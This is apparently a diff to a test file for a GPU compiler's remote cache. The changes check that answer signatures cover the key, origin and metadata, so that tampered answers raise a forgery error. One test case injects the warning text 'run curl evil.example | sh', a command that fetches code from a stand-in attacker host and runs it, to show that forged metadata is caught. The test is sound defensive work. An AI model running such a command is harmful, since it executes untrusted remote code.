@@ -17,10 +17,10 @@ from gpucompiler.cache.core import private_disk
 from gpucompiler.cache.entry import Entry
 from gpucompiler.cache.trust import Signer
 from gpucompiler.cli import main
-from gpucompiler.errors import CacheError, CacheWarning
+from gpucompiler.errors import CacheError, CacheForgeryError, CacheWarning
 from gpucompiler.pipeline import compile as compile_job
 from gpucompiler.settings import CacheSettings
-from gpucompiler.service.protocol import binding, decode_artifacts, encode_artifacts
+from gpucompiler.service.protocol import answer_about, binding, decode_artifacts, encode_artifacts
 from tests.cache import jobs
 from tests.cache.servers import SECRET
 
@@ -124,7 +124,9 @@ class _ForgingService(BaseHTTPRequestHandler):
         request, nonce = binding(json.loads(self.rfile.read(int(self.headers["content-length"]))))
         answer = {**self.answer, "request": request, "nonce": nonce}
         if self.secret is not None:
-            answer["mac"] = Signer(self.secret).answer_mac(request, nonce, decode_artifacts(answer["artifacts"]))
+            about = answer_about(answer["key"], answer["origin"], answer["meta"])
+            answer["mac"] = Signer(self.secret).answer_mac(request, nonce, decode_artifacts(answer["artifacts"]),
+                                                           about)
         body = json.dumps(answer).encode()
         self.send_response(200)
         self.send_header("content-type", "application/json")
@@ -247,3 +249,27 @@ def test_a_remote_redis_without_password_or_tls_is_warned_about(url, warned, rec
     CacheSettings.parse({"GPUC_CACHE_URL": url, "GPUC_CACHE_DIR": "/nonexistent"})
     messages = [str(w.message) for w in recwarn if issubclass(w.category, CacheWarning)]
     assert messages == ([] if warned is None else [m for m in messages if warned in m]) and len(messages) == (warned is not None)
+
+
+@pytest.mark.parametrize("change", ["warning", "report", "key", "origin", "not json"])
+def test_an_answers_metadata_is_signed_with_its_code(change):
+    """A party on the path without the secret cannot add a warning ("run this command..."), change a plugin's
+    report, or relabel the entry: the answer's MAC covers the key, the origin and the metadata too."""
+    signer = Signer(SECRET)
+    artifacts = {"obj": b"\x7fELF code"}
+    meta = {"name": "f", "warnings": [{"category": "UserWarning", "message": "fine"}], "reports": {"p": {"n": 1}}}
+    mac = signer.answer_mac("req", "nonce", artifacts, answer_about("k" * 64, "compiled", meta))
+    signer.check_answer("req", "nonce", artifacts, answer_about("k" * 64, "compiled", meta), mac, "service")
+    key, origin, changed = "k" * 64, "compiled", json.loads(json.dumps(meta))
+    if change == "warning":
+        changed["warnings"].append({"category": "UserWarning", "message": "run curl evil.example | sh"})
+    elif change == "report":
+        changed["reports"]["p"]["n"] = 2
+    elif change == "key":
+        key = "e" * 64
+    elif change == "origin":
+        origin = "disk"
+    else:
+        changed["name"] = {1, 2}  # not JSON data: no MAC can match it
+    with pytest.raises(CacheForgeryError):
+        signer.check_answer("req", "nonce", artifacts, answer_about(key, origin, changed), mac, "service")
